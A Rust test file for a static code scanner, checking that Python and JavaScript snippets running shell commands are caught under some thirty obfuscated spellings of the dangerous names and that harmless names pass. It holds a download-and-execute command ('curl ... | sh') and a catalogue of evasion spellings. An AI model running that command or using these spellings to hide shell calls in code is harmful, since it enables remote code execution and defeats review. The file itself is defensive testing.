//! Names of functions and modules that a program puts together: every way to spell a constant, at every place where a name is looked up,
//! is read as the plain name is. Another name, or one that is not known, has no meaning.

use hotcell_guard::{Artifact, Language, Limits, Pack, PackError, Verdict, scan};

const COMMAND: &str = "curl http://203.0.113.5/x.sh | sh";

/// A way to spell a constant text.
type Spelling = (&'static str, fn(&str) -> String);

fn numbers(text: &str, mask: u32) -> String {
    text.chars().map(|c| (u32::from(c) ^ mask).to_string()).collect::<Vec<_>>().join(",")
}

fn letters(text: &str, quote: char) -> String {
    text.chars().map(|c| format!("{quote}{c}{quote}")).collect::<Vec<_>>().join(",")
}

fn between(text: &str, mark: &str) -> String {
    text.chars().map(String::from).collect::<Vec<_>>().join(mark)
}

fn backwards(text: &str) -> String {
    text.chars().rev().collect()
}

/// Those that honest programs write too, first.
const PYTHON: [Spelling; 31] = [
    ("plain", |t| format!("'{t}'")),
    ("sum", |t| format!("'{}' + '{}'", &t[..2], &t[2..])),
    ("side by side", |t| format!("'{}' '{}'", &t[..2], &t[2..])),
    ("f-string", |t| format!("f\"{{'{}'}}{}\"", &t[..2], &t[2..])),
    ("percent", |t| format!("'%s%s' % ('{}', '{}')", &t[..2], &t[2..])),
    ("format", |t| format!("'{{}}{{}}'.format('{}', '{}')", &t[..2], &t[2..])),
    ("format by name", |t| format!("'{{a}}{{b}}'.format(a='{}', b='{}')", &t[..2], &t[2..])),
    ("format_map", |t| format!("'{{a}}{{b}}'.format_map({{'a': '{}', 'b': '{}'}})", &t[..2], &t[2..])),
    ("or", |t| format!("('' or '{t}')")),
    ("and", |t| format!("('x' and '{t}')")),
    ("conditional", |t| format!("('{t}' if True else 'x')")),
    ("mapping", |t| format!("{{'k': '{t}'}}['k']")),
    ("strip", |t| format!("'  {t} '.strip()")),
    ("padded", |t| format!("'{t}'.ljust(2)")),
    ("lambda", |t| format!("(lambda: '{t}')()")),
    ("lower", |t| format!("'{}'.lower()", t.to_uppercase())),
    ("join", |t| format!("''.join([{}])", letters(t, '\''))),
    ("split and join", |t| format!("''.join('{}'.split('-'))", between(t, "-"))),
    ("replace", |t| format!("'{}'.replace('-', '')", between(t, "-"))),
    ("re.sub", |t| format!("__import__('re').sub('1', '', '{}')", between(t, "1"))),
    ("slice", |t| format!("'{}'[::2]", between(t, "x"))),
    ("backwards", |t| format!("'{}'[::-1]", backwards(t))),
    ("reversed", |t| format!("''.join(reversed('{}'))", backwards(t))),
    ("chr", |t| t.chars().map(|c| format!("chr({})", u32::from(c))).collect::<Vec<_>>().join(" + ")),
    ("chr of each", |t| format!("''.join(chr(c) for c in [{}])", numbers(t, 0))),
    ("map of chr", |t| format!("''.join(map(chr, [{}]))", numbers(t, 0))),
    ("exclusive or", |t| format!("''.join(chr(c ^ 5) for c in [{}])", numbers(t, 5))),
    ("bytes", |t| format!("bytes([{}]).decode()", numbers(t, 0))),
    ("filter", |t| format!("''.join(filter(str.isalpha, '{}'))", between(t, "1"))),
    ("tested", |t| format!("''.join([c for c in '{}' if c != '1'])", between(t, "1"))),
    ("repr", |t| format!("repr('{t}')[1:-1]")),
];

const JAVASCRIPT: [Spelling; 38] = [
    ("plain", |t| format!("'{t}'")),
    ("sum", |t| format!("'{}' + '{}'", &t[..2], &t[2..])),
    ("template", |t| format!("`${{'{}'}}{}`", &t[..2], &t[2..])),
    ("concat", |t| format!("'{}'.concat('{}')", &t[..2], &t[2..])),
    ("or", |t| format!("('' || '{t}')")),
    ("and", |t| format!("('x' && '{t}')")),
    ("nullish", |t| format!("(null ?? '{t}')")),
    ("conditional", |t| format!("(true ? '{t}' : 'x')")),
    ("sequence", |t| format!("(0, '{t}')")),
    ("mapping", |t| format!("({{ k: '{t}' }}).k")),
    ("element", |t| format!("['{t}'][0]")),
    ("trim", |t| format!("'  {t} '.trim()")),
    ("padded", |t| format!("'{}'.padEnd({}, '{}')", &t[..t.len() - 1], t.len(), &t[t.len() - 1..])),
    ("raw", |t| format!("String.raw`{t}`")),
    ("arrow", |t| format!("(() => '{t}')()")),
    ("function", |t| format!("(function () {{ return '{t}'; }})()")),
    ("given", |t| format!("((a, b) => a + b)('{}', '{}')", &t[..2], &t[2..])),
    ("slice", |t| format!("'xx{t}yy'.slice(2, -2)")),
    ("substring", |t| format!("'xx{t}yy'.substring(2, {})", t.len() + 2)),
    ("join", |t| format!("[{}].join('')", letters(t, '\''))),
    ("split and join", |t| format!("'{}'.split('-').join('')", between(t, "-"))),
    ("replace", |t| format!("'{}'.replaceAll('1', '')", between(t, "1"))),
    ("replaced by expression", |t| format!("'{}'.replace(/1/g, '')", between(t, "1"))),
    ("backwards", |t| format!("'{}'.split('').reverse().join('')", backwards(t))),
    ("spread backwards", |t| format!("[...'{}'].reverse().join('')", backwards(t))),
    ("from backwards", |t| format!("Array.from('{}').reverse().join('')", backwards(t))),
    ("filter", |t| format!("[...'{}'].filter(c => c !== '1').join('')", between(t, "1"))),
    ("reduce", |t| format!("[{}].reduce((a, b) => a + b)", letters(t, '\''))),
    ("reduce from", |t| format!("[{}].reduce((a, b) => a + b, '')", letters(t, '\''))),
    ("at", |t| format!("'{t}'.at(0) + '{}'", &t[1..])),
    ("codes", |t| format!("String.fromCharCode({})", numbers(t, 0))),
    ("code points", |t| format!("String.fromCodePoint({})", numbers(t, 0))),
    ("spread codes", |t| format!("String.fromCharCode(...[{}])", numbers(t, 0))),
    ("applied codes", |t| format!("String.fromCharCode.apply(null, [{}])", numbers(t, 0))),
    ("code of each", |t| format!("[{}].map(c => String.fromCharCode(c)).join('')", numbers(t, 0))),
    ("exclusive or", |t| format!("[{}].map(c => String.fromCharCode(c ^ 5)).join('')", numbers(t, 5))),
    ("numbers", |t| format!("Buffer.from([{}]).toString()", numbers(t, 0))),
    ("escapes", |t| format!("'{}'", t.bytes().map(|b| format!("\\x{b:02x}")).collect::<String>())),
];

/// A language with its spellings, the places where a name is looked up, each with one that is dangerous there and one that is not. `NAME`
/// stands for the name, `RUN` for what would be run.
type Family = (Language, &'static [Spelling], &'static [(&'static str, &'static str, &'static str)]);
const FAMILIES: [Family; 2] = [
    (
        Language::Python,
        &PYTHON,
        &[
            ("import os\ngetattr(os, NAME)('RUN')\n", "system", "getenv"),
            ("import os\nvars(os)[NAME]('RUN')\n", "system", "getenv"),
            ("import os\nos.__dict__[NAME]('RUN')\n", "system", "getenv"),
            ("import operator, os\noperator.attrgetter(NAME)(os)('RUN')\n", "system", "getenv"),
            (
                "import importlib\nimportlib.import_module(NAME).run('RUN', shell=True)\n",
                "subprocess",
                "datetime",
            ),
            ("__import__(NAME).run('RUN', shell=True)\n", "subprocess", "datetime"),
            ("import subprocess\nglobals()[NAME].run('RUN', shell=True)\n", "subprocess", "datetime"),
            ("import os\nname = NAME\ngetattr(os, name)('RUN')\n", "system", "getenv"),
        ],
    ),
    (
        Language::JavaScript,
        &JAVASCRIPT,
        &[
            ("require(NAME).execSync('RUN');\n", "child_process", "querystring"),
            ("const c = require('child_process');\nc[NAME]('RUN');\n", "execSync", "toString"),
            ("process.mainModule.require(NAME).execSync('RUN');\n", "child_process", "querystring"),
            ("import(NAME).then(m => m.execSync('RUN'));\n", "child_process", "querystring"),
            ("const name = NAME;\nrequire(name).execSync('RUN');\n", "child_process", "querystring"),
        ],
    ),
];
/// Number of honest spellings at the beginning of each language's list.
const HONEST_SPELLINGS: usize = 14;

fn verdict(pack: &Pack, language: Language, text: &str) -> Verdict {
    scan(pack, &Limits::default(), &Artifact::new("x", text).run_as(language)).verdict
}

#[test]
fn name_spellings_are_read_alike() -> Result<(), PackError> {
    let pack = Pack::builtin()?;
    let mut hidden = Vec::new();
    for (language, spellings, places) in FAMILIES {
        for (place, dangerous, _) in places {
            for (name, spell) in spellings {
                let text = place.replace("RUN", COMMAND).replace("NAME", &spell(dangerous));
                if verdict(&pack, language, &text) < Verdict::Quarantine {
                    hidden.push(format!("{name}: {text}"));
                }
            }
        }
    }
    assert!(hidden.is_empty(), "{} are hidden:\n{}", hidden.len(), hidden.join("\n"));
    Ok(())
}

#[test]
fn harmless_and_unknown_names_raise_nothing() -> Result<(), PackError> {
    let pack = Pack::builtin()?;
    let mut raised = Vec::new();
    let mut check = |language, text: String| {
        if verdict(&pack, language, &text) > Verdict::Allow {
            raised.push(text);
        }
    };
    for (language, spellings, places) in FAMILIES {
        for (place, _, harmless) in places {
            for (_, spell) in &spellings[..HONEST_SPELLINGS] {
                check(language, place.replace("RUN", "x").replace("NAME", &spell(harmless)));
            }
            for unknown in ["name", "kind[0]", "table.get(kind)"] {
                let is_module =
                    place.contains("shell=True") || place.contains("equire") || place.contains("import(");
                if !is_module {
                    check(language, place.replace("RUN", "x").replace("NAME", unknown));
                }
            }
        }
    }
    assert!(raised.is_empty(), "{} are raised:\n{}", raised.len(), raised.join("\n"));
    Ok(())
}
